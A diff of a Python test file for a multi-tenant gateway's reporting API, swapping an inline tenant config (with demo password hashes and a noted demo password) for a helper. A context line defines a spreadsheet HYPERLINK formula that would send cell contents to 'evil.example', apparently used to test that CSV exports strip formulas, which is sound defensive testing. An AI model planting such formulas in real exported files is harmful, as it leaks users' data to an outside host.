@@ -17,7 +17,7 @@ from datetime import UTC, datetime
 
 import aiohttp
 import asyncpg
-from conftest import DEMO_CONFIG, eventually, running_gateway
+from conftest import eventually, running_gateway, two_tenants_config
 from history_helpers import history_gateway
 
 from acd.devtools import builders as cfg
@@ -26,7 +26,6 @@ from acd.effects import Assigned, Offered
 from acd.errors import AcdError
 from acd.keys import AcdKeys
 from acd.model import Task
-from gateway.config import load_config_text
 from gateway.history import report_buckets as buckets
 from gateway.history import reports, rows
 from gateway.history.archive import Archiver
@@ -282,28 +281,6 @@ async def test_intervals_follow_berlin_time_across_the_autumn_dst_switch(redis, 
 
 # --- the REST API ---------------------------------------------------------------------------------
 
-ACME = """
-  acme:
-    name: Acme
-    languages: [en]
-    topics:
-      help: {queue: help, label: {en: Help}}
-    queues:
-      help: {skill: help}
-    channels:
-      web: {type: widget}
-    agents:
-      zed:
-        name: Zed
-        password_hash: $argon2id$v=19$m=65536,t=3,p=4$TJYkFnUj3ksgqEoJpJYIhA$YcUKVNC3GA2YWxzrw3RVlbIMLZx9CwwPmf8le2hUcMk
-        languages: [en]
-        skills: {help: 5}
-        capacity: {chat: 2}
-    supervisors:
-      sue:
-        name: Sue
-        password_hash: $argon2id$v=19$m=65536,t=3,p=4$TJYkFnUj3ksgqEoJpJYIhA$YcUKVNC3GA2YWxzrw3RVlbIMLZx9CwwPmf8le2hUcMk
-"""  # sue uses anna's demo hash: password "anna-demo"
 
 DAY = "2025-11-03"
 EVIL_CODE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -377,7 +354,7 @@ async def test_csv_has_a_header_rfc4180_quoting_and_no_formulas(redis, redis_url
 
 async def test_agents_are_refused_and_other_tenants_see_nothing(redis, redis_url, database_url, history_db):
     await demo_events(history_db)
-    config = load_config_text(DEMO_CONFIG.read_text() + ACME, env={})
+    config = two_tenants_config()
     async with history_gateway(config, redis_url, database_url) as gw:
         query = f"?from={DAY}&to={DAY}&interval=day"
         assert (await get(gw, f"/api/v1/reports/queues{query}", None)).status == 401
